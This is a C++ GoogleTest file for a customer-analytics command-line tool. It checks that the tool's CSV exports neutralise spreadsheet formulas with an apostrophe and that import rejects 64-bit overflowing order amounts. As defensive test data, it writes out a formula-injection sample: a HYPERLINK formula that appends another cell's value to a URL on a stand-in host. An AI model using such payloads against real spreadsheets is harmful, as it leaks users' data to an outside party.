// The command line's CSV files on SQLite and PostgreSQL: customer keys,
// names and product keys that a spreadsheet would run as formulas come out
// of analyze, clv, basket and churn behind an apostrophe, numbers stay as
// they are; import reads such a cell back to the value it was written
// from; an order whose lines sum past 64 bits is an import error naming
// file, line and column, and so is a file whose amounts together do.
#include <gmock/gmock.h>
#include <soci/soci.h>

#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include "store/store_test_support.h"
#include "tests/cli/csv_formula_cases.h"
#include "tests/cli/run_command.h"

namespace vafa {
namespace {

using testing::CsvCells;
using ::testing::HasSubstr;
using testing::kFormulas;
using testing::kNumbers;

std::set<std::string> AsSet(const std::vector<std::string>& cells) {
  return {cells.begin(), cells.end()};
}

std::string Slurp(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

class CsvExportCliTest : public store::BackendTest {
 protected:
  void SetUp() override {
    BackendTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    folder_ = std::filesystem::temp_directory_path() /
              ("vafa_csv_export_" + std::to_string(getpid()) + "_" +
               store::BackendName(GetParam()));
    std::filesystem::create_directories(folder_);
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }
  testing::CommandResult Vafa(std::vector<std::string> args) {
    args.insert(args.begin(), {"--db", scratch_->location()});
    return testing::RunVafa(args);
  }
  // Every CSV file of `dir`: no bare formula in any cell.
  std::set<std::string> AllCells(const std::filesystem::path& dir) {
    std::set<std::string> all;
    int files = 0;
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
      if (entry.path().extension() != ".csv") continue;
      ++files;
      const std::set<std::string> cells = AsSet(CsvCells(Slurp(entry.path())));
      for (const std::string& formula : kFormulas) {
        EXPECT_FALSE(cells.contains(formula))
            << entry.path() << ": bare " << formula;
      }
      all.insert(cells.begin(), cells.end());
    }
    EXPECT_GT(files, 0) << dir;
    return all;
  }
  void ExpectProtected(const std::filesystem::path& file,
                       const std::vector<std::string>& formulas,
                       const std::vector<std::string>& numbers) {
    const std::set<std::string> cells = AsSet(CsvCells(Slurp(file)));
    for (const std::string& formula : formulas) {
      EXPECT_TRUE(cells.contains("'" + formula)) << file << ": " << formula;
    }
    for (const std::string& number : numbers) {
      EXPECT_TRUE(cells.contains(number)) << file << ": " << number;
      EXPECT_FALSE(cells.contains("'" + number)) << file << ": " << number;
    }
  }
  std::filesystem::path folder_;
};

TEST_P(CsvExportCliTest, AnalysisOutputsPrefixFormulasAndKeepNumbers) {
  auto demo = Vafa(
      {"demo", "--customers", "200", "--seed", "5", "--end", "2026-11-20"});
  ASSERT_EQ(demo.exit_code, 0) << demo.output;
  // The six most frequent buyers get formula and number keys and names;
  // the most sold product a formula sku.
  std::string sku = kFormulas[0];
  {
    auto db = scratch_->OpenAnother();
    ASSERT_TRUE(db.ok());
    std::vector<long long> ids;
    soci::rowset<long long> rows =
        ((*db)->sql().prepare << "SELECT customer_id FROM orders GROUP BY "
                                 "customer_id ORDER BY COUNT(*) DESC, "
                                 "customer_id LIMIT 6");
    for (long long id : rows) ids.push_back(id);
    ASSERT_EQ(ids.size(), 6u);
    std::vector<std::string> texts = kFormulas;
    texts.insert(texts.end(), kNumbers.begin(), kNumbers.end());
    for (size_t i = 0; i < ids.size(); ++i) {
      (*db)->sql() << "UPDATE customers SET external_id = :k, display_name = "
                      ":n, first_name = :f WHERE id = :id",
          soci::use(texts[i]), soci::use(texts[i]), soci::use(texts[i]),
          soci::use(ids[i]);
    }
    long long product = 0;
    (*db)->sql() << "SELECT product_id FROM order_lines GROUP BY product_id "
                    "ORDER BY COUNT(*) DESC, product_id LIMIT 1",
        soci::into(product);
    (*db)->sql() << "UPDATE products SET sku = :s WHERE id = :id",
        soci::use(sku), soci::use(product);
  }

  auto analyze = Vafa({"analyze", "--out", (folder_ / "analyze").string()});
  ASSERT_EQ(analyze.exit_code, 0) << analyze.output;
  AllCells(folder_ / "analyze");
  for (const char* report :
       {"summary.csv", "rfm.csv", "value.csv", "clv.csv"}) {
    ExpectProtected(folder_ / "analyze" / report, kFormulas, kNumbers);
  }

  auto clv = Vafa({"clv", "--out", (folder_ / "clv").string()});
  ASSERT_EQ(clv.exit_code, 0) << clv.output;
  AllCells(folder_ / "clv");
  ExpectProtected(folder_ / "clv" / "clv.csv", kFormulas, kNumbers);

  auto basket =
      Vafa({"basket", "--min-support", "0.5%", "--offers", "--affinity", sku,
            "--out", (folder_ / "basket").string()});
  ASSERT_EQ(basket.exit_code, 0) << basket.output;
  const std::set<std::string> basket_cells = AllCells(folder_ / "basket");
  // The sku is in the rules (alone or joined with others by ';').
  bool sku_protected = false;
  for (const std::string& cell : basket_cells) {
    sku_protected = sku_protected || cell.find("'" + sku) == 0;
  }
  EXPECT_TRUE(sku_protected);

  auto churn = Vafa({"churn", "--out", (folder_ / "churn").string(), "--top",
                     "0", "--threads", "2"});
  ASSERT_EQ(churn.exit_code, 0) << churn.output;
  AllCells(folder_ / "churn");
  ExpectProtected(folder_ / "churn" / "churn.csv", kFormulas, kNumbers);
}

TEST_P(CsvExportCliTest, ImportReadsProtectedCellsBackAndRefusesWrappedTotals) {
  const std::string customers = (folder_ / "customers.csv").string();
  std::ofstream(customers)
      << "external_id,first_name,last_name\n"
         "'=1+2,\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\",''@x\n"
         "'-5,'plain,-12.50\n";
  auto imported = Vafa({"-w", "rt", "import", "customers", customers});
  ASSERT_EQ(imported.exit_code, 0) << imported.output;
  {
    auto db = scratch_->OpenAnother();
    ASSERT_TRUE(db.ok());
    std::string first, last;
    (*db)->sql() << "SELECT first_name, last_name FROM customers WHERE "
                    "external_id = '=1+2'",
        soci::into(first), soci::into(last);
    EXPECT_EQ(first, kFormulas[0]);
    EXPECT_EQ(last, "'@x");
    (*db)->sql() << "SELECT first_name, last_name FROM customers WHERE "
                    "external_id = '''-5'",
        soci::into(first), soci::into(last);
    EXPECT_EQ(first, "'plain");
    EXPECT_EQ(last, "-12.50");
  }

  const std::string orders = (folder_ / "orders.csv").string();
  std::ofstream(orders) << "customer_id,date,order_id,product,amount\n"
                           "C1,2026-01-01,O1,P1,9223372036854775000\n"
                           "C1,2026-01-01,O1,P2,1000\n"
                           "C1,2026-01-02,O2,P1,9223372036854775807\n";
  auto refused = Vafa({"-w", "rt", "import", "transactions", orders,
                       "--create-missing-customers"});
  EXPECT_NE(refused.exit_code, 0);
  EXPECT_THAT(refused.output, HasSubstr("orders.csv:3:"));
  EXPECT_THAT(refused.output, HasSubstr("amount"));
  EXPECT_THAT(refused.output,
              HasSubstr("of order \"O1\" exceeds the largest amount"));
  EXPECT_THAT(refused.output, ::testing::Not(HasSubstr("orders.csv:4:")));
  // Analysing the same file: its amounts together pass 64 bits.
  auto analysed = Vafa({"analyze", "--csv", orders});
  EXPECT_NE(analysed.exit_code, 0);
  EXPECT_THAT(analysed.output, HasSubstr("orders.csv:3:"));
  EXPECT_THAT(analysed.output, HasSubstr("exceeds the largest amount"));
  auto db = scratch_->OpenAnother();
  ASSERT_TRUE(db.ok());
  long long stored = -1;
  (*db)->sql() << "SELECT COUNT(*) FROM orders", soci::into(stored);
  EXPECT_EQ(stored, 0);
}

VAFA_INSTANTIATE_BACKEND_TEST(CsvExportCliTest);

}  // namespace
}  // namespace vafa
